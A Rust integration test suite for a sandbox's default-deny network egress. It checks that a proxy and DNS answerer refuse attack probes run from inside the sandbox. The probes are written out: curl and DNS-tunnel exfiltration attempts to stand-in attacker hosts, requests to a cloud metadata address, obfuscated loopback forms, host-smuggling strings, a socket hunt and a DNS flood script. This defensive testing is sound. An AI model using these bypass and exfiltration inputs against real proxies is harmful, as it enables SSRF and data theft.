//! Egress: default-deny through the supervisor's proxy and DNS answerer,
//! attacked from inside real sandboxes with real tools (curl, getent).
//!
//! The "internet" here is an HTTP server on the host's loopback, reached
//! through names mapped with `network.resolve`: the proxy refuses loopback
//! unless a rule names the address, so the tests name it where they mean
//! to reach it and leave it out where they test that refusal.

use super::common::*;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;

/// An HTTP server on 127.0.0.1 answering `ok <request line>`.
fn upstream() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            std::thread::spawn(move || {
                let mut r = BufReader::new(&s);
                let mut line = String::new();
                let _ = r.read_line(&mut line);
                loop {
                    let mut h = String::new();
                    if r.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
                        break;
                    }
                }
                let body = format!("ok {}", line.trim_end());
                let _ = (&s).write_all(
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    )
                    .as_bytes(),
                );
            });
        }
    });
    port
}

/// An HTTPS server on 127.0.0.1 for `tls.test`, answering
/// `ok-tls <request line>`, with a certificate from a fresh CA whose PEM is
/// written to `<ws>/ca.pem` (the sandbox's curl is told to trust it).
fn tls_upstream(c: &Ctx) -> u16 {
    let (ca_pem, config) = tls_server(&["tls.test"]);
    let ca_path = c.ws.join("ca.pem");
    std::fs::write(&ca_path, ca_pem).unwrap();
    if let Some((uid, gid)) = c.as_user {
        nix::unistd::chown(&ca_path, Some(uid.into()), Some(gid.into())).unwrap();
    }
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            let config = config.clone();
            std::thread::spawn(move || {
                let Ok(conn) = rustls::ServerConnection::new(config) else {
                    return;
                };
                let mut tls = rustls::StreamOwned::new(conn, s);
                let mut r = BufReader::new(&mut tls);
                let mut line = String::new();
                let _ = r.read_line(&mut line);
                loop {
                    let mut h = String::new();
                    if r.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
                        break;
                    }
                }
                let body = format!("ok-tls {}", line.trim_end());
                let _ = tls.write_all(
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    )
                    .as_bytes(),
                );
                tls.conn.send_close_notify();
                let _ = tls.flush();
            });
        }
    });
    port
}

all_backends!(egress_follows_the_allowlist, |c: Ctx| {
    let (port, port2, tport) = (upstream(), upstream(), tls_upstream(&c));
    c.add_config(&format!(
        "network:\n  allowed_domains: [\"svc.test:{port}\", \"127.0.0.1:{port}\", \"rebind.test:{port2}\", \"tls.test:{tport}\", \"127.0.0.1:{tport}\"]\n  resolve: {{svc.test: 127.0.0.1, rebind.test: 127.0.0.1, tls.test: 127.0.0.1}}\n"
    ));
    let ws = c.ws.display().to_string();
    ok(&c.out(&["start", "-w", &ws, "--name", "egress"]));
    let sh = |script: &str| c.out(&["exec", "--name", "egress", "--", "sh", "-c", script]);

    // Allowed: through the proxy variables, and by name without them (the
    // aibox DNS hands out a synthetic address the proxy serves).
    let out = ok(&sh(&format!(
        "curl -sS http://svc.test:{port}/via-proxy; echo; curl -sS --noproxy '*' http://svc.test:{port}/via-dns; echo; getent hosts svc.test"
    )));
    assert!(out.contains("ok GET /via-proxy HTTP/1.1"), "{out}");
    assert!(out.contains("ok GET /via-dns HTTP/1.1"), "{out}");
    assert!(
        out.contains("127.100.0.1") && out.contains("svc.test"),
        "{out}"
    );
    // HTTPS: a CONNECT tunnel, and by name without the proxy variables
    // (the TLS server name is checked either way).
    let out = ok(&sh(&format!(
        "curl -sS --cacert /workspace/ca.pem https://tls.test:{tport}/via-connect; echo; curl -sS --noproxy '*' --cacert /workspace/ca.pem https://tls.test:{tport}/via-dns"
    )));
    assert!(out.contains("ok-tls GET /via-connect HTTP/1.1"), "{out}");
    assert!(out.contains("ok-tls GET /via-dns HTTP/1.1"), "{out}");

    // Denied: a 403 that names the rule to add, for plain HTTP and CONNECT.
    let out = stdout(&sh(
        "curl -sS http://evil.test/ ; curl -sS https://evil.test/ 2>&1; true",
    ));
    assert!(
        out.contains("add `evil.test` to network.allowed_domains"),
        "{out}"
    );
    assert!(out.contains("CONNECT tunnel failed, response 403"), "{out}");
    // An allowed name resolving to loopback (no rule names the address).
    let out = stdout(&sh(&format!("curl -sS http://rebind.test:{port2}/")));
    assert!(out.contains("127.0.0.1, a loopback address"), "{out}");
    // A raw IP with no rule naming it, through the proxy.
    let out = stdout(&sh(&format!("curl -sS http://127.0.0.2:{port}/")));
    assert!(out.contains("no rule names this address"), "{out}");
    // Denied names do not resolve, whatever the record type; nothing is
    // forwarded to a real DNS server (a TXT "exfiltration" gets nothing).
    let o = sh(
        "getent hosts evil.test; echo rc=$?; getent ahosts mfzwizltoq.attacker.test; echo rc=$?",
    );
    assert_eq!(stdout(&o).matches("rc=2").count(), 2, "{}", stdout(&o));
    // Around the proxy: the sandbox's own loopback has no way out, and an
    // address the DNS did not hand out is refused.
    let out = stdout(&sh(&format!(
        "curl -sS --noproxy '*' http://127.0.0.1:{port}/ 2>&1; curl -sS --noproxy '*' --connect-timeout 3 http://1.1.1.1/ 2>&1; true"
    )));
    assert!(!out.contains("ok GET"), "{out}");

    let st: serde_json::Value = serde_json::from_str(&ok(
        &c.out(&["status", "--name", "egress", "--format", "json"])
    ))
    .unwrap();
    let net = &st["network"];
    assert!(net["allow_count"].as_u64().unwrap() >= 2, "{net}");
    assert!(net["deny_count"].as_u64().unwrap() >= 4, "{net}");
    assert!(net["dns_refused"].as_u64().unwrap() >= 2, "{net}");
    ok(&c.out(&["stop", "--name", "egress"]));

    let events = audit_events(&c, "egress");
    let has = |t: &str, f: &dyn Fn(&serde_json::Value) -> bool| {
        events
            .iter()
            .any(|e| e["event_type"] == t && f(&e["details"]))
    };
    assert!(has("network.allow", &|d| d["host"] == "svc.test"
        && d["via"] == "proxy"
        && d["bytes_down"].as_u64() > Some(0)));
    assert!(has("network.allow", &|d| d["host"] == "svc.test"
        && d["via"] == "transparent"));
    assert!(has("network.allow", &|d| d["host"] == "tls.test"
        && d["method"] == "CONNECT"
        && d["via"] == "proxy"));
    assert!(has("network.allow", &|d| d["host"] == "tls.test"
        && d["via"] == "transparent"));
    assert!(has("network.deny", &|d| d["host"] == "evil.test"
        && d["method"] == "CONNECT"));
    assert!(has("network.deny", &|d| d["host"] == "rebind.test"));
    assert!(has("dns.query", &|d| d["name"] == "evil.test"));
    assert!(has("dns.response", &|d| d["name"] == "evil.test"
        && d["rcode"] == "NXDomain"));
    assert!(has("dns.response", &|d| d["name"] == "svc.test"
        && d["address"] == "127.100.0.1"));
    assert!(ok(&c.out(&["audit", "verify", "--name", "egress"])).contains("intact"));
});

all_backends!(network_off_means_no_egress_path, |c: Ctx| {
    c.add_config("network:\n  enabled: false\n");
    let out = stdout(&c.sh(
        "env | grep -ci proxy; curl -sS http://127.0.0.1:3128/ 2>&1; getent hosts deb.debian.org; echo rc=$?",
    ));
    assert!(out.starts_with("0\n"), "{out}");
    assert!(
        out.contains("Connection refused") || out.contains("Couldn't connect"),
        "{out}"
    );
    assert!(out.contains("rc=2"), "{out}");
});

both_modes!(bad_network_rules_are_refused_before_start, |c: Ctx| {
    c.add_config("network:\n  allowed_domains: [\"*\", \"user@evil.test\"]\n");
    let o = c.sh("true");
    assert_ne!(o.status.code(), Some(0));
    let err = stderr(&o);
    assert!(
        err.contains("network.allowed_domains") && err.contains("allow-all"),
        "{err}"
    );
});

all_backends!(egress_attacks_fail, |c: Ctx| {
    let port = upstream();
    // Every name here has a rule: what stops them is the address check, the
    // port, or the parser, not a missing rule.
    c.add_config(&format!(
        "network:\n  allowed_domains: [\"svc.test:{port}\", meta.test, ten.test, mapped.test, loop.test]\n  resolve: {{svc.test: 127.0.0.1, meta.test: 169.254.169.254, ten.test: 10.1.2.3, mapped.test: \"::ffff:127.0.0.1\", loop.test: 127.0.0.1}}\n"
    ));
    c.install_attack();
    let ws = c.ws.display().to_string();
    ok(&c.out(&["start", "-w", &ws, "--name", "attacks"]));
    let attack = |probes: &[&str]| {
        let mut argv = vec!["exec", "--name", "attacks", "--", "/workspace/aibox-attack"];
        argv.extend_from_slice(probes);
        ok(&c.out(&argv))
    };
    let connects = [
        ("loop.test:443", "status403"),
        ("meta.test:443", "status403"),
        ("ten.test:443", "status403"),
        ("mapped.test:443", "status403"),
        (&format!("svc.test:{}", port + 1) as &str, "status403"),
        ("svc.test:443", "status403"),
        ("0177.0.0.1:443", "status400"),
        ("2130706433:443", "status400"),
        ("0x7f.1:443", "status400"),
        ("svc.test.evil.test:443", "status403"),
        ("evilsvc.test:443", "status403"),
        ("svc.test@evil.test:443", "status400"),
        ("svc.test\\0.evil.test:443", "status400"),
        ("169.254.169.254:80", "status403"),
        ("[::ffff:127.0.0.1]:443", "status403"),
    ];
    let probes: Vec<String> = connects
        .iter()
        .map(|(t, _)| format!("proxy_connect:{t}"))
        .collect();
    let out = attack(&probes.iter().map(String::as_str).collect::<Vec<_>>());
    assert_eq!(out.lines().count(), connects.len(), "{out}");
    for ((target, want), line) in connects.iter().zip(out.lines()) {
        assert_eq!(
            line,
            format!("proxy_connect:{target} {want}"),
            "CONNECT {target}: {out}"
        );
    }
    // Around the proxy: no route for UDP (DNS to a public resolver, QUIC),
    // ICMP, or TCP to an address; a relay of our own inside gets no
    // further. (gVisor says EHOSTUNREACH where Linux says ENETUNREACH; an
    // ICMP socket may be refused outright.)
    let out = attack(&[
        "udp:8.8.8.8:53",
        "udp:1.1.1.1:443",
        "icmp:1.1.1.1",
        "connect:1.1.1.1:443",
        "relay:1.1.1.1:80",
    ]);
    for line in out.lines() {
        let (probe, result) = line.rsplit_once(' ').unwrap();
        assert!(
            matches!(result, "ENETUNREACH" | "errno113" | "EACCES" | "EPERM"),
            "{probe} got out: {out}"
        );
    }
    assert_eq!(out.lines().count(), 5, "{out}");
    // DNS: a denied name, and a tunnelling-style query (data in long random
    // labels), get NXDOMAIN from the aibox answerer, which never forwards.
    let tunnel = format!(
        "{}.{}.t.attacker.test",
        "a1b2c3d4e5".repeat(6),
        "f6e7d8c9b0".repeat(6)
    );
    let o = c.out(&[
        "exec",
        "--name",
        "attacks",
        "--",
        "sh",
        "-c",
        &format!("getent hosts evil.test; echo rc=$?; getent hosts {tunnel}; echo rc=$?"),
    ]);
    assert_eq!(stdout(&o).matches("rc=2").count(), 2, "{}", stdout(&o));
    // The host's engine sockets and the supervisor's control socket are not
    // there to be reached.
    let out = ok(&c.out(&[
        "exec", "--name", "attacks", "--", "sh", "-c",
        &format!(
            "for p in /run/podman/podman.sock /var/run/docker.sock /run/docker.sock {}; do test -e $p && echo VISIBLE $p; done; true",
            c.runtime.display()
        ),
    ]));
    assert_eq!(out, "", "{out}");
    ok(&c.out(&["stop", "--name", "attacks"]));

    let events = audit_events(&c, "attacks");
    let denied = |host: &str| {
        events.iter().any(|e| {
            e["event_type"] == "network.deny"
                && e["details"]["host"]
                    .as_str()
                    .is_some_and(|h| h.contains(host))
        })
    };
    for host in [
        "loop.test",
        "meta.test",
        "ten.test",
        "mapped.test",
        "svc.test.evil.test",
        "evilsvc.test",
        "0177.0.0.1",
        "svc.test@evil.test",
        "169.254.169.254",
    ] {
        assert!(denied(host), "no network.deny for {host}");
    }
    let reason = |host: &str| {
        events
            .iter()
            .find(|e| e["event_type"] == "network.deny" && e["details"]["host"] == host)
            .map(|e| {
                e["details"]["reason"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string()
            })
            .unwrap_or_default()
    };
    assert!(
        reason("meta.test").contains("169.254.169.254"),
        "{}",
        reason("meta.test")
    );
    assert!(
        reason("mapped.test").contains("127.0.0.1"),
        "{}",
        reason("mapped.test")
    );
    assert!(events.iter().any(|e| e["event_type"] == "dns.response"
        && e["details"]["name"] == tunnel.as_str()
        && e["details"]["rcode"] == "NXDomain"));
});

all_backends!(network_test_command_reports_each_check, |c: Ctx| {
    let port = upstream();
    c.add_config(&format!(
        "network:\n  allowed_domains: [\"svc.test:{port}\", \"127.0.0.1:{port}\"]\n  resolve: {{svc.test: 127.0.0.1}}\n"
    ));
    let ws = c.ws.display().to_string();
    ok(&c.out(&["start", "-w", &ws, "--name", "nettest"]));
    let out = ok(&c.out(&["network", "test", "--name", "nettest"]));
    assert!(
        out.contains(&format!(
            "PASS  allowed host reachable through the proxy: CONNECT svc.test:{port}: HTTP 200"
        )),
        "{out}"
    );
    for check in [
        "denied host refused by the proxy",
        "raw IP refused by the proxy",
        "raw IP unreachable without the proxy",
        "DNS for a denied name fails",
        "DNS to a public resolver goes nowhere",
        "UDP (QUIC) goes nowhere",
        "ICMP goes nowhere",
    ] {
        assert!(out.contains(&format!("PASS  {check}")), "{check}: {out}");
    }
    assert!(out.contains("9 passed, 0 failed, 0 skipped"), "{out}");
    // A host the rules do not allow: the check fails, and so does the
    // command.
    let o = c.out(&[
        "network",
        "test",
        "--name",
        "nettest",
        "--host",
        "evil.test",
        "--format",
        "json",
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let checks: Vec<serde_json::Value> = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(checks[0]["outcome"], "fail", "{checks:?}");
    assert!(checks[0]["detail"].as_str().unwrap().contains("HTTP 403"));
    let o = c.out(&["network", "test", "--name", "nettest", "--host", "bad host"]);
    assert_ne!(o.status.code(), Some(0));
    assert!(stderr(&o).contains("--host bad host"), "{}", stderr(&o));
    ok(&c.out(&["stop", "--name", "nettest"]));
});

container_backends!(a_killed_forwarder_comes_back, |c: Ctx| {
    let port = upstream();
    c.add_config(&format!(
        "network:\n  allowed_domains: [\"svc.test:{port}\", \"127.0.0.1:{port}\"]\n  resolve: {{svc.test: 127.0.0.1}}\n"
    ));
    let ws = c.ws.display().to_string();
    ok(&c.out(&["start", "-w", &ws, "--name", "fwd"]));
    // The forwarder is init's child running the same binary.
    let out = ok(&c.out(&[
        "exec", "--name", "fwd", "--", "sh", "-c",
        &format!(
            "fwd() {{ for p in /proc/[0-9]*; do n=${{p#/proc/}}; [ \"$n\" = 1 ] && continue; tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q ^/aibox/aibox.__contai[n]er-init && echo $n; done; }}; a=$(fwd); if kill -9 $a 2>&1; then echo killed; i=0; while [ $i -lt 100 ]; do b=$(fwd); [ -n \"$b\" ] && [ \"$b\" != \"$a\" ] && break; sleep 0.2; i=$((i+1)); done; else b=$(fwd); fi; echo \"a=$a b=$b\"; curl -sS http://svc.test:{port}/after"
        ),
    ]));
    let ids: Vec<&str> = out
        .lines()
        .find(|l| l.starts_with("a="))
        .unwrap_or_default()
        .split(' ')
        .map(|x| x.split('=').nth(1).unwrap_or_default())
        .collect();
    assert!(
        !ids[0].is_empty() && !ids[1].is_empty(),
        "no forwarder found: {out}"
    );
    if c.backend == Backend::Runsc {
        // No Landlock under gVisor: a session can kill the forwarder, and
        // init starts a new one.
        assert!(
            out.contains("killed") && ids[0] != ids[1],
            "no new forwarder: {out}"
        );
    } else {
        // Landlock scopes signals to the session's own domain: the
        // forwarder (init's child, outside it) cannot be killed at all.
        assert!(!out.contains("killed") && ids[0] == ids[1], "{out}");
    }
    assert!(out.contains("ok GET /after HTTP/1.1"), "{out}");
    ok(&c.out(&["stop", "--name", "fwd"]));
});

both_modes!(a_dns_flood_is_bounded_in_the_audit_log, |c: Ctx| {
    // Each DNS query and answer is an event; a sandbox that sends them as
    // fast as it can must not fill the host's disk with them. Over the
    // rate (20 a second here, bursts of 200) they are counted into one
    // summary a second, and detection and metrics count what it stands
    // for.
    c.add_config(
        "network:\n  allowed_domains: [\"svc.test:80\"]\n  resolve: {svc.test: 127.0.0.1}\naudit:\n  network_events_per_sec: 20\n  file_events: false\n",
    );
    let ws = c.ws.display().to_string();
    let script = r#"
import socket, struct
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
got = 0
for i in range(3000):
    name = 'n%d.flood.test' % i
    q = struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0)
    q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0'
    q += struct.pack('>HH', 1, 1)
    s.sendto(q, (ns, 53))
    try:
        s.recv(512)
        got += 1
    except socket.timeout:
        pass
print('answered', got)
"#;
    let out = ok(&c.out(&[
        "run", "-w", &ws, "--name", "flood", "--", "python3", "-c", script,
    ]));
    assert!(out.contains("answered 3000"), "{out}");
    let events = audit_events(&c, "flood");
    let queries: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["event_type"] == "dns.query")
        .collect();
    let single = queries
        .iter()
        .filter(|e| e["details"]["summary"] != true)
        .count() as u64;
    let held: u64 = queries
        .iter()
        .filter(|e| e["details"]["summary"] == true)
        .map(|e| e["details"]["held_back"].as_u64().unwrap())
        .sum();
    assert!(single < 1000, "{single} queries written one by one");
    assert!(held > 0, "nothing was summarised");
    assert!(
        single + held >= 3000,
        "{single} + {held}: queries were lost"
    );
    // Metrics count what the summaries stand for.
    let m = ok(&c.out(&["metrics", "show"]));
    let total: u64 = m
        .lines()
        .find(|l| l.starts_with("aibox_dns_queries_total{sandbox=\"flood\"}"))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("{m}"));
    assert_eq!(total, single + held, "{m}");
    // And the detector saw the flood (aibox-002: 100 queries a minute).
    assert!(
        events
            .iter()
            .any(|e| e["event_type"] == "falco.alert" && e["details"]["rule_id"] == "aibox-002"),
        "no aibox-002"
    );
});
